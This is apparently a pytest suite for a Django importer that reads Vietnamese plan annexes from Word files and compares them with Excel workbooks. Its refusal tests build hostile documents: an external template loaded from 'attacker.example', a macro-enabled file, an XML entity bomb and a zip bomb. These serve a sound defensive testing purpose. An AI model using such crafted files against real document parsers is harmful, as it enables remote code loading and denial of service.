"""The annex import from a Word plan (.docx): the real documents give exactly the rows of their
workbooks, every merge form, layout tables, the column-number row, the plan's details from the
body, the web flow and the command, and every refusal."""

import io
import json
import resource
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH

from plans.importing.pipeline import annex_import
from plans.models import ImportRun, Plan, Task

pytestmark = pytest.mark.django_db

ANNEXES = Path(__file__).resolve().parents[2] / "fixtures" / "annexes"
DOCUMENTS = sorted(ANNEXES.glob("*.docx"))
PLAN_2022_DOCX = ANNEXES / "bac-kan-2022-ke-hoach-khac-phuc-chi-so.docx"
PAPI_DOCX = ANNEXES / "bac-kan-2018-ke-hoach-22-papi.docx"
# The 2022 plan names no number anywhere (its "Số:" is blank until it is signed).
PARAMS = {PLAN_2022_DOCX.name: {"plan_number": "KH-2022"}}


def run(path_or_bytes, province, *, name=None, **params):
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
    name = name or (path_or_bytes.name if isinstance(path_or_bytes, Path) else "plan.docx")
    return annex_import(data=data, file_name=name, province=province, **params)


def comparable(row: dict) -> dict:
    """A report row without its place in the file: a Word table has no title rows above its
    header, so its row numbers are the workbook's less the title rows."""
    return {k: v for k, v in row.items() if k not in ("row", "row_id")}


# --- the real documents -------------------------------------------------------------------------


def test_there_are_real_documents_to_compare():
    assert [p.name for p in DOCUMENTS] == [
        "bac-kan-2018-ke-hoach-22-papi.docx",
        "bac-kan-2022-ke-hoach-khac-phuc-chi-so.docx",
    ]


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda p: p.name)
def test_every_document_gives_exactly_the_rows_of_its_workbook(document, bac_kan):
    params = PARAMS.get(document.name, {})
    from_xlsx = run(document.with_suffix(".xlsx"), bac_kan, dry_run=True, **params)
    from_docx = run(document, bac_kan, dry_run=True, **params)
    assert from_xlsx.ok and from_docx.ok, (from_xlsx.errors, from_docx.errors)
    assert len(from_docx.rows) == len(from_xlsx.rows) > 30
    for docx_row, xlsx_row in zip(from_docx.rows, from_xlsx.rows, strict=True):
        assert comparable(docx_row) == comparable(xlsx_row)
    assert from_docx.tasks == from_xlsx.tasks
    assert from_docx.agencies == from_xlsx.agencies
    assert from_docx.deadlines == from_xlsx.deadlines
    assert [(s["name"], s["sections"], s["tasks"], s["columns"]) for s in from_docx.sheets] == [
        (s["name"], s["sections"], s["tasks"], s["columns"]) for s in from_xlsx.sheets
    ]
    assert {k: from_docx.plan[k] for k in ("number", "year")} == {
        k: from_xlsx.plan[k] for k in ("number", "year")
    }
    # The same warnings, each at the Word table's row and column.
    assert [w["message"] for w in from_docx.warnings] == [w["message"] for w in from_xlsx.warnings]


def test_the_2022_document_skips_its_layout_tables_and_reads_its_body_heading(bac_kan):
    report = run(PLAN_2022_DOCX, bac_kan, plan_number="KH-2022")
    assert report.ok, report.errors
    assert [s["name"] for s in report.sheets] == ["Phụ lục I", "Phụ lục II"]
    assert [s["header_row"] for s in report.sheets] == [1, 1]
    assert sum(s["sections"] for s in report.sheets) == 14
    assert report.tasks["created"] == 70
    texts = " ".join(r["description"] for r in report.rows)
    assert "Nơi nhận" not in texts and "ỦY BAN NHÂN DÂN" not in texts
    assert "chi tiết tại Phụ lục" not in texts  # the body names the annexes: not a row
    assert report.plan["place"] == "Bắc Kạn"
    assert report.plan["year"] == 2022
    assert report.plan["title"].startswith("Khắc phục những tồn tại, hạn chế Chỉ số cải cách")
    assert report.plan["title"].endswith("Chỉ số năm 2022 và những năm tiếp theo")
    plan = Plan.objects.get(pk=report.plan_id)
    assert plan.title == report.plan["title"]
    # The deadline merged down the column belongs to every task it covers.
    second = [r for r in report.rows if r["sheet"] == "Phụ lục II"][:2]
    assert [r["deadline"]["text"] for r in second] == ["Quý III- IV/2022"] * 2
    assert [r["row"] for r in second] == [3, 4]


def test_the_column_number_row_is_skipped_and_the_heading_gives_number_and_date(bac_kan):
    report = run(PAPI_DOCX, bac_kan, dry_run=True)
    assert report.ok, report.errors
    assert report.plan["number"] == "22/KH-UBND"
    assert report.plan["issued_on"] == "2018-01-22"
    assert [r["number"] for r in report.rows][:3] == ["1.1", "1.2", "1.3"]
    assert not any(r["number"].startswith("(") for r in report.rows)
    assert len(report.rows) == 32


@pytest.mark.parametrize("first,second", [("xlsx", "docx"), ("docx", "xlsx")])
def test_reimporting_the_same_plan_from_the_other_format_changes_nothing(first, second, bac_kan):
    base = ANNEXES / "bac-kan-2022-ke-hoach-khac-phuc-chi-so"
    params = {"plan_number": "KH-2022", "year": 2022}
    assert run(base.with_suffix(f".{first}"), bac_kan, **params).tasks["created"] == 70
    tasks_before = list(Task.objects.order_by("pk").values_list("pk", "description", "due_on"))
    again = run(base.with_suffix(f".{second}"), bac_kan, **params)
    assert again.ok, again.errors
    assert again.tasks == {
        "created": 0,
        "updated": 0,
        "moved": 0,
        "restored": 0,
        "unchanged": 70,
        "withdrawn": 0,
    }
    assert not again.at_risk
    assert (
        list(Task.objects.order_by("pk").values_list("pk", "description", "due_on")) == tasks_before
    )


def test_one_annex_of_two_with_the_command(bac_kan):
    out = io.StringIO()
    call_command(
        "import_annex",
        str(PLAN_2022_DOCX),
        "--province",
        "Bắc Kạn",
        "--plan-number",
        "KH-2022",
        "--sheet",
        "phụ lục ii",
        "--json",
        stdout=out,
    )
    document = json.loads(out.getvalue())
    assert document["errors"] == []
    assert [s["name"] for s in document["sheets"]] == ["Phụ lục II"]
    assert document["tasks"]["created"] == 38


def test_an_unknown_annex_name_lists_the_annexes_and_writes_nothing(bac_kan):
    report = run(PLAN_2022_DOCX, bac_kan, plan_number="KH-2022", sheet_names=["Phụ lục III"])
    assert report.errors == [
        "Không tìm thấy bảng “Phụ lục III” trong văn bản. Các bảng phụ lục có trong văn bản: "
        "“Phụ lục I”, “Phụ lục II”. Hãy chọn lại bảng cần nhập."
    ]
    assert not Plan.objects.exists() and not ImportRun.objects.exists()


# --- small documents built here, for the forms the real ones lack --------------------------------

HEADER = ["TT", "Nội dung nhiệm vụ", "Cơ quan chủ trì", "Cơ quan phối hợp", "Thời gian thực hiện"]


def _cell_text(cell, text: str, bold: bool = False) -> None:
    """Text as Word types it: one paragraph per line."""
    lines = text.split("\n")
    cell.paragraphs[0].text = ""
    cell.paragraphs[0].add_run(lines[0]).bold = bold
    for line in lines[1:]:
        cell.add_paragraph().add_run(line).bold = bold


def annex_document(
    rows: list[list[str]],
    *,
    heading=("PHỤ LỤC",),
    layout: bool = False,
    body: bool = False,
    bold_rows=(),
    merges=(),
    then=None,
) -> Document:
    """A Word document with an annex table of `rows` (under `HEADER`); `merges` are
    ((row, col), (row, col)) pairs, 0-based over the table including the header, merged with
    python-docx as Word does it (gridSpan across, vMerge down)."""
    document = Document()
    if layout:
        table = document.add_table(rows=1, cols=2)
        _cell_text(table.cell(0, 0), "ỦY BAN NHÂN DÂN\nTỈNH YÊN BÁI\nSố: 153/KH-UBND")
        _cell_text(
            table.cell(0, 1),
            "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc\n"
            "Yên Bái, ngày 03 tháng 7 năm 2023",
        )
        title = document.add_paragraph()
        title.alignment = WD_ALIGN_PARAGRAPH.CENTER
        title.add_run("KẾ HOẠCH").bold = True
        for line in ("Cải thiện Chỉ số PAR INDEX, SIPAS", "tỉnh Yên Bái năm 2023"):
            paragraph = document.add_paragraph()
            paragraph.alignment = WD_ALIGN_PARAGRAPH.CENTER
            paragraph.add_run(line).bold = True
        document.add_paragraph("-----------").alignment = WD_ALIGN_PARAGRAPH.CENTER
    if body:
        document.add_paragraph("Nhiệm vụ chi tiết tại Phụ lục kèm theo Kế hoạch này.")
        document.add_paragraph("1. Sở Nội vụ chủ trì theo dõi, đôn đốc.")
        signature = document.add_table(rows=1, cols=2)
        _cell_text(signature.cell(0, 0), "Nơi nhận:\n- Như trên;\n- Lưu: VT.")
        _cell_text(signature.cell(0, 1), "TM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH")
    add_annex(document, rows, heading=heading, bold_rows=bold_rows, merges=merges)
    if then:
        then(document)
    return document


def add_annex(document, rows, *, heading=("PHỤ LỤC",), bold_rows=(), merges=(), header=HEADER):
    for line in heading:
        document.add_paragraph().add_run(line).bold = line.upper().startswith("PHỤ LỤC")
    table = document.add_table(rows=1 + len(rows), cols=len(header))
    table.style = "Table Grid"
    for col, text in enumerate(header):
        _cell_text(table.cell(0, col), text, bold=True)
    for r, values in enumerate(rows, start=1):
        for col, text in enumerate(values):
            if text:
                _cell_text(table.cell(r, col), text, bold=r in bold_rows)
    for (r1, c1), (r2, c2) in merges:
        table.cell(r1, c1).merge(table.cell(r2, c2))
    return table


def docx_bytes(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def test_every_merge_form_covers_its_cells_like_an_excel_range(bac_kan):
    rows = [
        ["I", "NHÓM NHIỆM VỤ CẢI CÁCH THỂ CHẾ", "", "", ""],
        [
            "1",
            "Rà soát văn bản quy phạm pháp luật",
            "Sở Tư pháp",
            "Các sở, ban, ngành",
            "Quý III/2023",
        ],
        ["2", "Kiểm tra việc thi hành", "Sở Tư pháp", "", ""],
        ["3", "Công khai kết quả kiểm tra", "Sở Tư pháp", "", ""],
        ["4", "Cập nhật cơ sở dữ liệu", "Sở Nội vụ", "", "Quý IV/2023"],
        ["5", "Tập huấn", "", "", "Thường xuyên"],
    ]
    document = annex_document(
        rows,
        bold_rows=(1,),
        merges=[
            ((1, 1), (1, 4)),  # section title across (gridSpan 4)
            ((2, 4), (4, 4)),  # one deadline down three tasks (vMerge restart + 2 continue)
            ((5, 2), (6, 3)),  # two agencies' cells merged across and down (span and vMerge)
        ],
    )
    report = run(docx_bytes(document), bac_kan, plan_number="1/KH", year=2023, dry_run=True)
    assert report.ok, report.errors
    assert [(r["section"], r["section_title"]) for r in report.rows][:1] == [
        ("I", "NHÓM NHIỆM VỤ CẢI CÁCH THỂ CHẾ")
    ]
    by_number = {r["number"]: r for r in report.rows}
    assert [by_number[n]["deadline"]["text"] for n in "123"] == ["Quý III/2023"] * 3
    assert by_number["4"]["lead"] == ["Sở Nội vụ"] == by_number["5"]["lead"]
    assert by_number["5"]["deadline"]["text"] == "Thường xuyên"
    assert len(report.rows) == 5


def test_a_cell_of_several_paragraphs_reads_as_lines_with_its_bullets(bac_kan):
    rows = [
        [
            "1",
            "Tuyên truyền về cải cách hành chính:\n- trên Cổng thông tin điện tử;\n- trên báo, đài",
            "Sở Nội vụ",
            "",
            "Năm 2023",
        ],
    ]

    def line_break(document):
        # A line break inside one paragraph (Shift+Enter) reads the same as a new paragraph.
        cell = document.tables[-1].cell(1, 3)
        run = cell.paragraphs[0].add_run("Sở Tư pháp")
        run.add_break()
        run.add_text("Sở Tài chính")

    document = annex_document(rows, then=line_break)
    report = run(docx_bytes(document), bac_kan, plan_number="2/KH", year=2023, dry_run=True)
    assert report.ok, report.errors
    [row] = report.rows
    assert row["description"] == (
        "Tuyên truyền về cải cách hành chính:\n- trên Cổng thông tin điện tử;\n- trên báo, đài"
    )
    assert row["support"] == ["Sở Tư pháp", "Sở Tài chính"]


def test_number_date_place_and_title_come_from_the_plans_heading(bac_kan, client, reviewer):
    rows = [["1", "Nâng cao Chỉ số SIPAS", "Sở Nội vụ", "", "Quý IV/2023"]]
    data = docx_bytes(annex_document(rows, layout=True, body=True))
    client.force_login(reviewer)
    response = client.post(
        reverse("plans:import_new"),
        {"file": SimpleUploadedFile("ke-hoach-153.docx", data), "province": bac_kan.pk},
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    preview = ImportRun.objects.get()
    plan = preview.summary["plan"]
    assert (plan["number"], plan["issued_on"], plan["place"], plan["year"]) == (
        "153/KH-UBND",
        "2023-07-03",
        "Yên Bái",
        2023,
    )
    assert plan["title"] == "Cải thiện Chỉ số PAR INDEX, SIPAS tỉnh Yên Bái năm 2023"
    page = client.get(response.url).text
    assert "153/KH-UBND" in page and "03/07/2023" in page and "Yên Bái" in page
    assert "Cải thiện Chỉ số PAR INDEX, SIPAS tỉnh Yên Bái năm 2023" in page
    assert not Plan.objects.exists()
    client.post(reverse("plans:import_confirm", args=[preview.pk]))
    stored = Plan.objects.get()
    assert (stored.number, stored.issued_on.isoformat(), stored.title) == (
        "153/KH-UBND",
        "2023-07-03",
        "Cải thiện Chỉ số PAR INDEX, SIPAS tỉnh Yên Bái năm 2023",
    )
    assert stored.tasks.count() == 1


def test_two_annexes_each_a_sheet_named_by_its_heading_with_addresses_in_the_table(bac_kan):
    first = [["1", "Nhiệm vụ một", "Sở Nội vụ", "", "Quý IV/2023"]]
    second = [
        ["1", "Nhiệm vụ hai", "Sở Tư pháp", "", "Quý IV/2023"],
        ["2", "Nhiệm vụ ba", "Sở Tư pháp", "", "hạn không rõ"],
    ]
    document = annex_document(
        first,
        heading=("PHỤ LỤC I", "NHIỆM VỤ DUY TRÌ", "(Kèm theo Kế hoạch số 7/KH-UBND)"),
        then=lambda d: add_annex(d, second, heading=("PHỤ LỤC II: NHIỆM VỤ KHẮC PHỤC",)),
    )
    report = run(docx_bytes(document), bac_kan, year=2023, dry_run=True)
    assert report.ok, report.errors
    assert report.plan["number"] == "7/KH-UBND"
    assert [s["name"] for s in report.sheets] == ["Phụ lục I", "Phụ lục II"]
    assert [(r["sheet"], r["row"], r["number"]) for r in report.rows] == [
        ("Phụ lục I", 2, "1"),
        ("Phụ lục II", 2, "1"),
        ("Phụ lục II", 3, "2"),
    ]
    [unparsed] = [w for w in report.warnings if "hạn không rõ" in w["message"]]
    assert unparsed["where"] == "Phụ lục II, dòng 3, cột 5"


def test_a_table_without_a_heading_is_named_by_its_place(bac_kan):
    document = annex_document([["1", "Nhiệm vụ", "Sở Nội vụ", "", "Quý IV/2023"]], heading=())
    report = run(docx_bytes(document), bac_kan, plan_number="3/KH", year=2023, dry_run=True)
    assert report.ok, report.errors
    assert [s["name"] for s in report.sheets] == ["Bảng 1"]


# --- refusals ------------------------------------------------------------------------------------


def zip_parts(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def small_docx() -> bytes:
    return docx_bytes(annex_document([["1", "Nhiệm vụ", "Sở Nội vụ", "", "Quý IV/2023"]]))


def with_body(xml_rows: str) -> bytes:
    """The small document with its body replaced."""
    parts = parts_of(small_docx())
    document = parts["word/document.xml"].decode()
    head, _ = document.split("<w:body>", 1)
    parts["word/document.xml"] = (head + "<w:body>" + xml_rows + "</w:body></w:document>").encode()
    return zip_parts(parts)


def ole_with_stream(name: str) -> bytes:
    """The .xls fixture (a real OLE compound file) with its workbook stream renamed: what a
    Word 97-2003 document ("WordDocument") or a password-protected .docx ("EncryptedPackage")
    looks like to a reader that lists the streams."""
    data = bytearray((ANNEXES / "bac-kan-2018-ke-hoach-22-papi.xls").read_bytes())
    old = "Workbook".encode("utf-16-le") + b"\0\0"
    start = data.index(old)
    new = name.encode("utf-16-le") + b"\0\0"
    data[start : start + 64] = new.ljust(64, b"\0")
    data[start + 64 : start + 66] = len(new).to_bytes(2, "little")
    return bytes(data)


def macro_document() -> bytes:
    parts = parts_of(small_docx())
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return zip_parts(parts)


def external_template() -> bytes:
    parts = parts_of(small_docx())
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return zip_parts(parts)


def strict_document() -> bytes:
    parts = parts_of(small_docx())
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
    )
    return zip_parts(parts)


def nested_tables(depth: int) -> bytes:
    inner = "<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    for _ in range(depth):
        inner = f"<w:tbl><w:tr><w:tc>{inner}<w:p/></w:tc></w:tr></w:tbl>"
    return with_body(inner)


def entity_bomb() -> bytes:
    parts = parts_of(small_docx())
    document = parts["word/document.xml"].decode()
    doctype = (
        '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    parts["word/document.xml"] = document.replace("?>", "?>" + doctype, 1).encode()
    return zip_parts(parts)


def no_table() -> bytes:
    document = Document()
    document.add_paragraph("KẾ HOẠCH")
    document.add_paragraph("Nhiệm vụ chi tiết tại Phụ lục I.")
    return docx_bytes(document)


REFUSALS = {
    "legacy .doc": ("ke-hoach.doc", lambda: ole_with_stream("WordDocument"), "Word 97-2003 (.doc)"),
    "pdf": ("ke-hoach.pdf", lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n", "mở nó bằng Word"),
    "encrypted": ("ke-hoach.docx", lambda: ole_with_stream("EncryptedPackage"), "mật khẩu"),
    "macros": ("ke-hoach.docm", macro_document, "có macro (.docm)"),
    "truncated": ("ke-hoach.docx", lambda: small_docx()[:-300], "Văn bản Word bị hỏng"),
    "external template": ("ke-hoach.docx", external_template, "mẫu văn bản đính kèm"),
    "deep nesting": ("ke-hoach.docx", lambda: nested_tables(6), "lồng trong bảng quá 3 tầng"),
    "doctype": ("ke-hoach.docx", entity_bomb, "DOCTYPE"),
    "strict": ("ke-hoach.docx", strict_document, "Strict Open XML"),
    "no annex table": ("ke-hoach.docx", no_table, "Không tìm thấy bảng phụ lục nào"),
}


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_bad_documents_are_refused_with_a_vietnamese_message_and_nothing_written(case, bac_kan):
    name, make, expected = REFUSALS[case]
    report = run(make(), bac_kan, name=name, plan_number="9/KH", year=2023)
    assert len(report.errors) == 1 and expected in report.errors[0], report.errors
    assert "hãy" in report.errors[0].lower() or "Hãy" in report.errors[0]
    assert not Plan.objects.exists() and not ImportRun.objects.exists()


def test_a_link_to_a_web_page_is_not_an_external_reference(bac_kan):
    parts = parts_of(small_docx())
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://dichvucong.gov.vn" TargetMode="External"/>'
        b"</Relationships>",
    )
    report = run(zip_parts(parts), bac_kan, plan_number="9/KH", year=2023, dry_run=True)
    assert report.ok, report.errors


def test_saving_as_docx_is_what_a_doc_and_a_pdf_are_told(bac_kan):
    doc = run(ole_with_stream("WordDocument"), bac_kan, name="a.doc", plan_number="9/KH")
    pdf = run(b"%PDF-1.4\n", bac_kan, name="a.pdf", plan_number="9/KH")
    assert "“Word Document (*.docx)”" in doc.errors[0]
    assert "“Word Document (*.docx)”" in pdf.errors[0]


def test_a_zip_bomb_is_refused_before_it_is_unpacked(bac_kan):
    parts = parts_of(small_docx())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            if name != "word/document.xml":
                archive.writestr(name, body)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(parts["word/document.xml"][:-30])
            chunk = b" " * (1 << 20)
            for _ in range(210):
                part.write(chunk)
            part.write(parts["word/document.xml"][-30:])
    report = run(out.getvalue(), bac_kan, plan_number="9/KH", year=2023)
    assert report.errors and "quá nhiều dữ liệu khi giải nén" in report.errors[0]
    assert not ImportRun.objects.exists()


def test_a_table_of_100000_rows_is_refused_without_reading_it_all(bac_kan):
    row = (
        "<w:tr><w:tc><w:p><w:r><w:t>{n}</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:t>Nhiệm vụ {n}</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:t>Sở Nội vụ</w:t></w:r></w:p></w:tc></w:tr>"
    )
    header = (
        "<w:tr><w:tc><w:p><w:r><w:t>TT</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:t>Nhiệm vụ</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:t>Cơ quan chủ trì</w:t></w:r></w:p></w:tc></w:tr>"
    )
    body = "<w:tbl>" + header + "".join(row.format(n=n) for n in range(100_000)) + "</w:tbl>"
    data = with_body(body)
    grown_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    report = run(data, bac_kan, plan_number="9/KH", year=2023)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - grown_before) / 1024
    assert report.errors == [
        "Bảng “Bảng 1” có hơn 20.000 dòng có dữ liệu, vượt giới hạn 20.000 dòng: hãy chia phụ lục "
        "thành nhiều tệp hoặc xoá các dòng không cần thiết rồi tải lên lại."
    ]
    assert grown_mb < 150, grown_mb
    assert not ImportRun.objects.exists()


def test_the_upload_form_offers_word_documents(client, reviewer):
    client.force_login(reviewer)
    page = client.get(reverse("plans:import_new")).text
    assert ".docx" in page
    assert "chép bảng sang Excel" not in page


def test_the_benchmarks_word_annex_holds_the_rows_of_its_workbook(bac_kan):
    """benchmark_import --format docx measures the same plan as the workbook it compares to."""
    from plans.tooling.synthetic import synthetic_annex, synthetic_annex_docx

    params = {"plan_number": "BENCH", "year": 2023, "dry_run": True}
    from_xlsx = run(synthetic_annex(120), bac_kan, name="s.xlsx", **params)
    from_docx = run(synthetic_annex_docx(120), bac_kan, name="s.docx", **params)
    assert from_xlsx.ok and from_docx.ok
    assert [comparable(r) for r in from_docx.rows] == [comparable(r) for r in from_xlsx.rows]
    assert from_docx.tasks["created"] == 120
